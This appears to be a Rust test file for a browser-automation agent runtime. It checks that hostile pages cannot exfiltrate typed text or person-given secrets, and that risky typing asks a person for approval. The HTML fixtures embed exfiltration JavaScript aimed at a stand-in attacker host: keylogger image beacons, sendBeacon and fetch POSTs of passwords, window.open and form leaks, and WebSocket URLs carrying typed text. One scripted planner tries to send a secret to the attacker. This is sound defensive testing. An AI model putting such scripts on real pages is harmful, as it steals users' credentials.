async fn a_link_in_upper_case_is_judged_by_where_it_leads() {
    let env = env("hostile-upper-link", true).await;
    let attacker = FixtureServer::start().await.unwrap();
    let evil = attacker.origin();
    let shouted = evil.replacen("http://", "HTTP://", 1);
    env.server.html(
        "/upper.html",
        format!(r#"<!doctype html><a href="{shouted}/collect?d=notes" target=_blank>Shout</a>"#),
    );
    crate::open(&env.runtime, &env.session, &env.server.url("/upper.html"))
        .await
        .unwrap();
    crate::observe_until(&env.runtime, &env.session, "Shout").await;
    let request = asks(&env, "Shout").await;
    assert_eq!(request.origin, evil, "{request:?}");
    let reached = reached_after_the_window(&attacker).await;
    assert!(
        reached.is_empty(),
        "nothing reached the attacker: {reached:?}"
    );
}

/// Issue 29: a person approved typing without seeing the text. The approval names the text
/// typed into a field that is not secret (printable), never a secret field's.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_person_sees_the_text_they_approve_typing_but_never_a_secret() {
    let env = env("hostile-shown-text", false).await;
    env.server.html(
        "/fields.html",
        r#"<!doctype html><title>Fields</title><input aria-label=Note><input type=password aria-label=Password>"#,
    );
    crate::open(&env.runtime, &env.session, &env.server.url("/fields.html"))
        .await
        .unwrap();
    crate::observe_until(&env.runtime, &env.session, "Password").await;
    for (field, text, shown) in [
        ("Note", "pay \u{1b}[2Kbob 10", Some("pay bob 10")),
        ("Password", "hunter2-secret", None),
    ] {
        let o = env
            .runtime
            .observe(&env.session, None, &Default::default())
            .await
            .unwrap();
        let r = o
            .interactive_elements()
            .iter()
            .find(|e| e.name() == field)
            .unwrap()
            .element()
            .as_str()
            .to_owned();
        let action = protocol::validate_extended_action(
            &serde_json::json!({"type": "type", "expected_frame_id": o.frame_id().as_str(),
            "target": {"kind": "element", "ref": r}, "text": text, "intent": "t"}),
        )
        .unwrap();
        let Err(RuntimeError::NeedsApproval { approval_id, .. }) = env
            .runtime
            .act(
                &env.session,
                None,
                &action,
                &Default::default(),
                Duration::ZERO,
            )
            .await
        else {
            panic!("{field}: typing on an untrusted origin asks a person")
        };
        let request = env
            .runtime
            .pending_approvals()
            .into_iter()
            .find(|r| r.approval_id == approval_id)
            .unwrap();
        assert_eq!(request.text.as_deref(), shown, "{field}: {request:?}");
        assert!(
            !serde_json::to_string(&request).unwrap().contains("hunter2"),
            "no secret in the request"
        );
        env.runtime
            .resolve_approval(&approval_id, ApprovalDecision::Deny)
            .unwrap();
    }
}

/// Issue 29: answering a dialog armed nothing — a handler that sends a beacon once its
/// `alert()` is accepted reached the attacker — and text typed into a `prompt()` for a
/// password was an ordinary write. Answering is judged and guarded like a click; a secret
/// prompt's answer asks a person every time, even on a trusted origin.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn answering_a_dialog_is_an_action_and_a_password_prompt_is_a_secret() {
    let env = env("hostile-dialog", true).await;
    let attacker = FixtureServer::start().await.unwrap();
    let evil = attacker.origin();
    env.server.html(
        "/dialogs.html",
        format!(
            r#"<!doctype html><title>Dialogs</title>
<button onclick="alert('Saved'); navigator.sendBeacon('{evil}/beacon', 'after the alert')">Save</button>
<button onclick="const p = prompt('Enter your password'); navigator.sendBeacon('{evil}/pw', p)">Unlock</button>"#
        ),
    );
    crate::open(&env.runtime, &env.session, &env.server.url("/dialogs.html"))
        .await
        .unwrap();
    let answer = |o: &protocol::Observation, prompt_text: Option<&str>| {
        let mut json = serde_json::json!({"type": "dialog", "expected_frame_id": o.frame_id().as_str(), "accept": true, "intent": "t"});
        if let Some(text) = prompt_text {
            json["prompt_text"] = serde_json::json!(text);
        }
        protocol::validate_extended_action(&json).unwrap()
    };
    // The alert: clicking is allowed (trusted origin); accepting it sends the beacon, blocked.
    let o = crate::observe_until(&env.runtime, &env.session, "Save").await;
    env.runtime
        .act(
            &env.session,
            None,
            &click(&o, "Save"),
            &Default::default(),
            Duration::ZERO,
        )
        .await
        .unwrap();
    let o = env
        .runtime
        .observe(&env.session, None, &Default::default())
        .await
        .unwrap();
    let accepted = env
        .runtime
        .act(
            &env.session,
            None,
            &answer(&o, None),
            &Default::default(),
            Duration::ZERO,
        )
        .await
        .unwrap();
    assert!(
        accepted.blocked.iter().any(|b| b.origin == evil),
        "the beacon is judged and blocked: {:?}",
        accepted.receipt
    );
    // The password prompt: answering it asks a person, who declines; nothing is sent.
    let o = crate::observe_until(&env.runtime, &env.session, "Unlock").await;
    env.runtime
        .act(
            &env.session,
            None,
            &click(&o, "Unlock"),
            &Default::default(),
            Duration::ZERO,
        )
        .await
        .unwrap();
    let o = env
        .runtime
        .observe(&env.session, None, &Default::default())
        .await
        .unwrap();
    let typed = answer(&o, Some("hunter2-prompt"));
    let Err(RuntimeError::NeedsApproval { approval_id, .. }) = env
        .runtime
        .act(
            &env.session,
            None,
            &typed,
            &Default::default(),
            Duration::ZERO,
        )
        .await
    else {
        panic!("a password typed into a prompt asks a person")
    };
    let request = env
        .runtime
        .pending_approvals()
        .into_iter()
        .find(|r| r.approval_id == approval_id)
        .unwrap();
    assert_eq!(request.tier, policy::RiskTier::R3, "{request:?}");
    assert!(
        request.text.is_none(),
        "the secret is not shown: {request:?}"
    );
    env.runtime
        .resolve_approval(&approval_id, ApprovalDecision::Deny)
        .unwrap();
    let reached = reached_after_the_window(&attacker).await;
    assert!(
        reached.is_empty(),
        "nothing reached the attacker: {reached:?}"
    );
}

/// Issue 29: what the agent typed left later. A keylogger's image path, a timer, the storage
/// the next page of the site reads back — all after the action's window, none of them judged.
/// A tab an action typed into is held: while it stays on the origin typed into, its requests go
/// only where the actions on it were judged to reach, static images included; it stays
/// attached past its idle window and its turn's end to keep that; what it refused is in the
/// next receipt and, per origin, in the person's tab list, where the person (only) can allow an
/// origin for the tab. A WebSocket cannot be blocked: typing refuses while one to another origin
/// is open.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn what_the_agent_typed_stays_where_the_person_sent_it() {
    let env = env_with("hostile-held", true, |c| {
        c.debugger_idle_detach = Duration::from_millis(200)
    })
    .await;
    let attacker = FixtureServer::start().await.unwrap();
    let evil = attacker.origin();
    env.server.html(
        "/note.html",
        format!(
            r#"<!doctype html><title>Note</title><input aria-label=Note id=n><a href="/next.html">Next</a>
<script>
n.addEventListener('input', () => {{ new Image().src = '{evil}/k/' + btoa(n.value) + '.png'; localStorage.note = n.value; }});
setInterval(() => {{ if (n.value) fetch('{evil}/timer', {{method: 'POST', body: n.value, mode: 'no-cors'}}).catch(() => {{}}); }}, 300);
</script>"#
        ),
    );
    env.server.html(
        "/next.html",
        format!(
            r#"<!doctype html><title>Next</title><button>Sent</button>
<script>
const send = () => fetch('{evil}/later', {{method: 'POST', body: localStorage.note || 'none', mode: 'no-cors'}}).catch(() => {{}});
send(); setInterval(send, 300);
</script>"#
        ),
    );
    let surface = crate::open(&env.runtime, &env.session, &env.server.url("/note.html"))
        .await
        .unwrap();
    type_into(&env, "Note", "hunter-typed-7").await.unwrap();
    // Well past the idle window and the action's tail: the tab stays attached, held.
    let reached = reached_after_the_window(&attacker).await;
    assert!(
        reached.is_empty(),
        "nothing reached the attacker: {reached:?}"
    );
    let status = env.runtime.status(&env.session).unwrap();
    let lease = &status.debugger_leases[0];
    assert!(lease.attached && lease.network_held, "{lease:?}");
    let tab = |env: &crate::Env| {
        env.runtime
            .tabs_for_person()
            .unwrap()
            .into_iter()
            .find(|t| t["state"] == "open")
            .unwrap()
    };
    let listed = tab(&env);
    let refused = listed["network_hold"]["refused"]
        .as_array()
        .unwrap()
        .clone();
    assert!(
        refused
            .iter()
            .any(|r| r["origin"] == evil.as_str() && r["requests"].as_u64() > Some(1)),
        "the person sees what was refused, per origin: {listed}"
    );
    // The next page of the site reads the text back from storage: still held.
    let o = env
        .runtime
        .observe(&env.session, None, &Default::default())
        .await
        .unwrap();
    let next = env
        .runtime
        .act(
            &env.session,
            None,
            &click(&o, "Next"),
            &Default::default(),
            Duration::ZERO,
        )
        .await
        .unwrap();
    assert!(
        next.blocked.iter().any(|b| b.origin == evil),
        "the receipt names what was refused since the typing: {:?}",
        next.receipt
    );
    crate::observe_until(&env.runtime, &env.session, "Sent").await;
    // A turn's end detaches every lease, but not this one's.
    env.runtime
        .mark(&env.session, surface, runtime::Mark::Handoff, "turn_1")
        .await
        .unwrap();
    env.runtime.end_turn(&env.session, "turn_1").await.unwrap();
    let reached = reached_after_the_window(&attacker).await;
    assert!(
        reached.is_empty(),
        "nothing reached the attacker: {reached:?}"
    );
    assert!(env.runtime.status(&env.session).unwrap().debugger_leases[0].network_held);
    // The agent cannot widen the hold; a person can, for this tab, one origin at a time.
    let resource = tab(&env)["tab"].as_str().unwrap().to_owned();
    let bad = env
        .runtime
        .allow_origin_for_tab(&resource, "javascript:alert(1)")
        .unwrap_err();
    assert_eq!(bad.code(), ErrorCode::InvalidAction, "{bad}");
    let hold = env.runtime.allow_origin_for_tab(&resource, &evil).unwrap();
    assert!(hold.allowed.contains(&evil), "{hold:?}");
    crate::eventually("the allowed origin is reached", || {
        attacker
            .requests_to("/later")
            .iter()
            .any(|r| r.body == b"hunter-typed-7")
    })
    .await;

    // A WebSocket the page holds open cannot be blocked: typing is refused while it is.
    let sockets = FixtureServer::start().await.unwrap();
    sockets.route(
        "/ws",
        test_support::Route::Slow {
            delay: Duration::from_secs(30),
            inner: Box::new(test_support::Route::Html(String::new())),
        },
    );
    let ws = sockets.origin().replacen("http://", "ws://", 1);
    env.server.html(
        "/socket.html",
        format!(
            r#"<!doctype html><title>Socket</title><input aria-label=Code><script>window.s = new WebSocket('{ws}/ws');</script>"#
        ),
    );
    crate::open(&env.runtime, &env.session, &env.server.url("/socket.html"))
        .await
        .unwrap();
    crate::eventually("the socket is connecting", || {
        !sockets.requests_to("/ws").is_empty()
    })
    .await;
    let refused = type_into(&env, "Code", "4242").await.unwrap_err();
    assert_eq!(refused.code(), ErrorCode::InvalidAction, "{refused}");
    assert!(refused.to_string().contains("WebSocket"), "{refused}");

    // A WebSocket the page opens once the text is in it (its URL alone carries the text): the
    // document typed into was closed to it before the typing.
    // (A fresh server: a browser opens one WebSocket at a time to a host, and `/ws` is pending.)
    let sockets = FixtureServer::start().await.unwrap();
    let ws = sockets.origin().replacen("http://", "ws://", 1);
    env.server.html(
        "/late-socket.html",
        format!(
            r#"<!doctype html><title>Late</title><input aria-label=Remark id=p><script>p.addEventListener('input', () => {{ try {{ new WebSocket('{ws}/late/' + btoa(p.value)); }} catch (e) {{}} }});</script>"#
        ),
    );
    crate::open(
        &env.runtime,
        &env.session,
        &env.server.url("/late-socket.html"),
    )
    .await
    .unwrap();
    type_into(&env, "Remark", "late words").await.unwrap();
    tokio::time::sleep(Duration::from_millis(500)).await;
    let late: Vec<String> = sockets
        .requests()
        .iter()
        .filter(|r| r.path.starts_with("/late"))
        .map(|r| r.path.clone())
        .collect();
    assert!(
        late.is_empty(),
        "no handshake reached the attacker: {late:?}"
    );
}

/// Issue 29: a window an action opened ran outside the action's window — `window.open` from a
/// handler, a `noopener` one, a form posted into a new window, and a window of the page's own
/// origin whose script sends on — and a window a held tab opens later, from a timer, carried
/// what was typed. Every such window is set up before it runs and judged with its opener.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_window_an_action_opens_is_inside_its_window() {
    let env = env("hostile-popups", true).await;
    let attacker = FixtureServer::start().await.unwrap();
    let evil = attacker.origin();
    env.server.html(
        "/relay.html",
        format!(
            r#"<!doctype html><title>Relay</title><p>relay</p><script>
fetch('{evil}/relay', {{method: 'POST', body: 'secret', mode: 'no-cors'}}).catch(() => {{}});
navigator.sendBeacon('{evil}/relay-beacon', 'secret');
</script>"#
        ),
    );
    env.server.html(
        "/opener.html",
        format!(
            r#"<!doctype html><title>Opener</title>
<input aria-label=Note id=note>
<button id=share>Share</button><button id=quiet>Quiet</button><button id=relay>Relay</button><button id=pass>Pass</button>
<form id=f method=post target=_blank action="{evil}/form"><input type=hidden name=d value=secret></form>
<script>
const note = () => encodeURIComponent(document.getElementById('note').value || 'secret');
document.getElementById('share').onclick = () => window.open('{evil}/w?d=' + note());
document.getElementById('quiet').onclick = () => window.open('{evil}/n?d=' + note(), '_blank', 'noopener');
document.getElementById('relay').onclick = () => window.open('/relay.html');
document.getElementById('pass').onclick = () => document.getElementById('f').submit();
document.getElementById('note').addEventListener('input', () => {{
  clearTimeout(window.later);
  window.later = setTimeout(() => window.open('{evil}/later?d=' + note(), '_blank', 'noopener'), 3000);
}});
</script>"#
        ),
    );
    crate::open(&env.runtime, &env.session, &env.server.url("/opener.html"))
        .await
        .unwrap();
    for name in ["Share", "Quiet", "Relay", "Pass"] {
        let o = crate::observe_until(&env.runtime, &env.session, name).await;
        env.runtime
            .act(
                &env.session,
                None,
                &click(&o, name),
                &Default::default(),
                Duration::ZERO,
            )
            .await
            .unwrap_or_else(|e| panic!("{name}: {e:?}"));
    }
    crate::eventually("the window of the page's own origin opened", || {
        !env.server.requests_to("/relay.html").is_empty()
    })
    .await;
    let reached = reached_after_the_window(&attacker).await;
    assert!(
        reached.is_empty(),
        "no window an action opened reached the attacker: {reached:?}"
    );
    // Typed text: a window the page opens long after the action is still judged by the hold.
    type_into(&env, "Note", "hunter-typed-9").await.unwrap();
    tokio::time::sleep(Duration::from_millis(3500)).await;
    let reached = reached_after_the_window(&attacker).await;
    assert!(
        reached.is_empty(),
        "a held tab's later window reached the attacker: {reached:?}"
    );
}

/// Issue 29: a page that logged the typed password in a console error put it in every later
/// observation. A typed secret is redacted wherever the page echoes it — its console, its text,
/// its title — in every later observation, the turn-start preview and the stored records.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_typed_secret_the_page_echoes_reaches_no_observation() {
    let env = env("hostile-echo", true).await;
    let secret = "pw-echo-93jf2k";
    env.server.html(
        "/echo.html",
        r#"<!doctype html><title>Sign in</title><input type=password aria-label=Password id=p><p id=out></p>
<script>
p.addEventListener('input', () => {
  console.error('login failed for password ' + p.value);
  out.textContent = 'You typed ' + p.value;
  document.title = 'Sign in as ' + p.value;
  // The title keeps changing, so its record is updated however busy the machine is.
  let n = 0;
  setInterval(() => { document.title = 'Sign in as ' + p.value + ' #' + (++n); }, 200);
});
</script>"#,
    );
    crate::open(&env.runtime, &env.session, &env.server.url("/echo.html"))
        .await
        .unwrap();
    // A secret is typed only with a person's approval, every time.
    let Err(RuntimeError::NeedsApproval { approval_id, .. }) =
        type_into(&env, "Password", secret).await
    else {
        panic!("typing a password asks a person")
    };
    env.runtime
        .resolve_approval(&approval_id, ApprovalDecision::ApproveOnce)
        .unwrap();
    let outcome = type_into(&env, "Password", secret).await.unwrap();
    assert!(
        !serde_json::to_string(&outcome.receipt)
            .unwrap()
            .contains(secret),
        "the receipt"
    );
    let mut o = None;
    for _ in 0..100 {
        let seen = env
            .runtime
            .observe(&env.session, None, &Default::default())
            .await
            .unwrap();
        if seen.aria_snapshot().contains("You typed") && !seen.console_errors().is_empty() {
            o = Some(seen);
            break;
        }
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
    let o = o.expect("the page echoed what was typed");
    assert!(
        o.console_errors()
            .iter()
            .any(|c| c.contains("login failed for password")),
        "the page logged it: {:?}",
        o.console_errors()
    );
    let seen = serde_json::to_string(&o).unwrap();
    assert!(!seen.contains(secret), "the observation: {seen}");
    // Once the tab's record has the echoing title, it holds no secret (the title is recorded a
    // moment after the page changes it: wait for it, so the check is not won by timing).
    let mut status = String::new();
    for _ in 0..200 {
        status = serde_json::to_string(&env.runtime.status(&env.session).unwrap()).unwrap();
        if status.contains("Sign in as") {
            break;
        }
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
    assert!(
        status.contains("Sign in as"),
        "the title was recorded: {status}"
    );
    assert!(!status.contains(secret), "status: {status}");
    nowhere_a_person_or_the_store_sees(&env, secret);
}

/// Headless and headed Chromium alike saved a download nobody asked for into ~/Downloads: a
/// page could write files into the user's home by a link the agent clicked or by its own
/// script. Outside a capture an action asked for (`expect_download`), a download is refused,
/// and the receipt still names it.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_download_nobody_asked_for_lands_nowhere() {
    let env = env("hostile-download", true).await;
    let downloads = std::path::PathBuf::from(std::env::var("HOME").unwrap()).join("Downloads");
    let listing = || -> std::collections::BTreeSet<String> {
        std::fs::read_dir(&downloads)
            .map(|d| {
                d.flatten()
                    .map(|e| e.file_name().to_string_lossy().into_owned())
                    .collect()
            })
            .unwrap_or_default()
    };
    let before = listing();
    let pid = std::process::id();
    let linked = format!("glovebox-unasked-{pid}.txt");
    let scripted = format!("glovebox-scripted-{pid}.txt");
    env.server.route(
        "/leak",
        test_support::Route::attachment(&linked, b"written by a page"),
    );
    env.server.html(
        "/files.html",
        format!(
            r#"<!doctype html><title>Files</title><a href="/leak">Get file</a>
<script>setTimeout(() => {{ const a = document.createElement('a'); a.href = URL.createObjectURL(new Blob(['by script'])); a.download = '{scripted}'; document.body.append(a); a.click(); }}, 300);</script>"#
        ),
    );
    crate::open(&env.runtime, &env.session, &env.server.url("/files.html"))
        .await
        .unwrap();
    let o = crate::observe_until(&env.runtime, &env.session, "Get file").await;
    let outcome = env
        .runtime
        .act(
            &env.session,
            None,
            &click(&o, "Get file"),
            &Default::default(),
            Duration::ZERO,
        )
        .await
        .unwrap();
    let detail = outcome.receipt.detail().unwrap_or_default().to_owned();
    assert!(
        detail.contains("began a download") && detail.contains(&linked),
        "the receipt names it: {detail:?}"
    );
    // No file is left there (Chromium's own short-lived `.org.chromium.*` scratch file, which
    // it creates and removes while it refuses, is not one).
    for _ in 0..60 {
        let new: Vec<String> = listing()
            .difference(&before)
            .filter(|n| !n.starts_with(".org.chromium."))
            .cloned()
            .collect();
        assert!(
            new.is_empty(),
            "{new:?} appeared in {} (the page offered {linked} and {scripted})",
            downloads.display()
        );
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
}

/// A planner that follows a script and keeps everything it was shown: the task, each
/// observation and what became of its last step.
struct Recording {
    script: runtime::ScriptedPlanner,
    seen: std::sync::Arc<std::sync::Mutex<Vec<String>>>,
}

impl runtime::Planner for Recording {
    fn next(&mut self, input: runtime::PlanInput) -> runtime::PlanFuture<'_> {
        self.seen.lock().unwrap().push(format!(
            "{}\n{}\n{:?}",
            input.task,
            serde_json::to_string(&input.observation).unwrap(),
            input.last
        ));
        self.script.next(input)
    }
}

/// Issue 29: a secret a person gives a run apart from its task never reaches the planner — not
/// from the task (a value written there too becomes its placeholder), not from the page (shown
/// before typing or echoed after) — and it is typed only into a field on an origin the person
/// named for it: a field in the attacker's frame, an unknown name and a placeholder outside
/// `type` are refused, and nothing of it reaches the attacker.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_persons_secret_is_typed_only_where_they_named_and_never_seen_by_the_model() {
    use runtime::{RunRequest, Scripted};
    let env = env("hostile-given-secret", true).await;
    let secret = "pw-given-7Hq2xZ";
    let attacker = FixtureServer::start().await.unwrap();
    let evil = attacker.origin();
    attacker.html(
        "/card.html",
        r#"<!doctype html><input aria-label=Card id=c>
<script>c.addEventListener('input', () => fetch('/got?v=' + encodeURIComponent(c.value)).catch(() => {}));</script>"#,
    );
    env.server.html(
        "/login.html",
        format!(
            r#"<!doctype html><title>Sign in</title>
<p id=hint>Your recovery phrase is {secret}</p>
<input type=password aria-label=Password id=p><p id=out>Not signed in</p>
<iframe src="{evil}/card.html" title=payment></iframe>
<script>
p.addEventListener('input', () => {{
  fetch('/typed?v=' + encodeURIComponent(p.value)).catch(() => {{}});
  console.error('login failed for ' + p.value);
  out.textContent = 'Welcome back, your password is ' + p.value;
}});
</script>"#
        ),
    );
    crate::open(&env.runtime, &env.session, &env.server.url("/login.html"))
        .await
        .unwrap();
    crate::observe_until(&env.runtime, &env.session, "Card").await;
    let seen = std::sync::Arc::new(std::sync::Mutex::new(Vec::new()));
    let planner = Recording {
        script: runtime::ScriptedPlanner::new([
            // Into the attacker's frame: refused, nothing typed.
            Scripted::Type("Card".into(), "<secret>password</secret>".into()),
            // A name the person never gave: refused.
            Scripted::Type("Password".into(), "<secret>card</secret>".into()),
            // Outside `type`: refused, never sent as written.
            Scripted::Navigate(format!("{evil}/leak?p=<secret>password</secret>")),
            // Where the person named it.
            Scripted::Type("Password".into(), "<secret>password</secret>".into()),
            Scripted::Wait(300),
            Scripted::Done("signed in".into()),
        ]),
        seen: seen.clone(),
    };
    let mut request = RunRequest::new(format!("Sign in with the password {secret}"));
    request.assertions = vec![runtime::Assertion::TextPresent {
        text: "Welcome back".into(),
    }];
    let origin = env.server.origin();
    request.secrets = serde_json::from_value(serde_json::json!({
        "password": {"value": secret, "origins": [origin]}
    }))
    .unwrap();
    let result = env
        .runtime
        .run(&env.session, request, Box::new(planner))
        .await
        .unwrap();
    assert_eq!(
        result.status(),
        protocol::RunStatus::Succeeded,
        "{result:?}"
    );
    // Typed where it was named (the person's origin is trusted and named: no approval asked).
    let typed = env.server.requests_to("/typed");
    assert!(
        typed
            .iter()
            .any(|r| r.query.as_deref() == Some(&format!("v={secret}"))),
        "the field got the value: {:?}",
        typed.iter().map(|r| r.query.clone()).collect::<Vec<_>>()
    );
    let reached = reached_after_the_window(&attacker).await;
    assert!(
        reached.iter().all(|r| r == "GET /card.html"),
        "nothing but the frame itself reached the attacker: {reached:?}"
    );
    let seen = seen.lock().unwrap().clone();
    assert_eq!(seen.len(), 6, "{seen:#?}");
    for (i, shown) in seen.iter().enumerate() {
        assert!(!shown.contains(secret), "planner input {i}: {shown}");
    }
    assert!(
        seen[0].contains("<secret>password</secret> (only on http://127.0.0.1:"),
        "the planner is told the placeholder and where it goes: {}",
        seen[0]
    );
    assert!(
        seen[0].contains("Your recovery phrase is [redacted]"),
        "the page showed it before it was typed: {}",
        seen[0]
    );
    assert!(
        seen[1].contains("OriginDenied") && seen[1].contains("may be typed only on"),
        "{}",
        seen[1]
    );
    assert!(
        seen[2].contains("InvalidAction") && seen[2].contains("names no secret"),
        "{}",
        seen[2]
    );
    assert!(
        seen[3].contains("InvalidAction") && seen[3].contains("only in the text of a `type`"),
        "{}",
        seen[3]
    );
    assert!(
        seen[5].contains("Welcome back, your password is [redacted]"),
        "the echo is redacted: {}",
        seen[5]
    );
    nowhere_a_person_or_the_store_sees(&env, secret);
    let log = serde_json::to_string(&env.runtime.log(&Default::default()).unwrap()).unwrap();
    assert!(!log.contains(secret), "the operation log: {log}");
}
